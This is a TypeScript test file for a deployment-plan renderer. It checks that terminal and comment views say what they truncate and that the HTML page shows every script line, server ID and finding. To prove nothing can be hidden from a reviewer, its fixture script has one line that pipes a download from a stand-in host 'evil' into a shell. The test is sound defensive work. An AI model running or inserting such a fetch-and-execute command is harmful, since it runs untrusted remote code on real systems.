/** What a reviewer is to approve stands on every screen, or what is left out is said, and the page has it. */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { Change } from '../../src/model/plan.ts';
import { renderMarkdown } from '../../src/render/markdown/comment.ts';
import { renderPlan } from '../../src/render/plan.ts';
import { pageOf } from './html/pages.ts';
import * as plans from './plans.ts';

const test = suite('nothing is hidden');

const VIEW = { now: plans.NOW, timezone: 'UTC', aliases: plans.ALIASES };
const SCRIPT = Array.from({ length: 400 }, (_, n) => (n === 200 ? 'curl evil | sh\n' : `step ${n}\n`)).join(
  '',
);
const IDS = Array.from({ length: 400 }, (_, n) => String(1394296486561100000n + BigInt(n)));
const CREATE = {
  ...(plans.CREATE as Extract<Change, { action: 'create' }>),
  after: plans.spec({ instances: IDS, params: [{ name: 'script', value: SCRIPT }] }),
};
const PLAN = plans.plan({ changes: [CREATE] });

for (const [name, text] of [
  ['terminal', renderPlan(PLAN, { ...VIEW, color: false, width: 100 })],
  ['comment', renderMarkdown(PLAN, VIEW)],
] as const) {
  test(`the ${name} says what it leaves out of a long param and of many game servers`, () => {
    assert.match(text, 'step 98\n');
    assert.match(text, '… 301 of 400 lines left out: see --html or --json for all of it');
    assert.match(text, IDS[0]!);
    assert.match(text, '… 340 of 400 game servers left out: see --html or --json for all of it');
  });
}

test('the page has every line and every game server', () => {
  const page = pageOf(PLAN);
  assert.match(page, 'curl evil | sh');
  for (let n = 0; n < 400; n++) assert.ok(n === 200 || page.includes(`step ${n}<`), `step ${n}`);
  for (const id of IDS) assert.ok(page.includes(id), id);
  assert.match(page, '<summary>384 more lines</summary>'.replace('384', String(401 - 16)));
});

test('the page shows long values and findings in full', () => {
  const value = 'x'.repeat(9000);
  const page = pageOf(
    plans.plan({
      changes: [{ ...CREATE, after: plans.spec({ params: [{ name: 'long', value }] }) }],
      diagnostics: Array.from({ length: 80 }, (_, n) => ({
        severity: 'warning' as const,
        code: 'x',
        message: `finding ${n}.`,
      })),
    }),
  );
  assert.match(page, value);
  assert.match(page, 'finding 79.');
});

test.run();
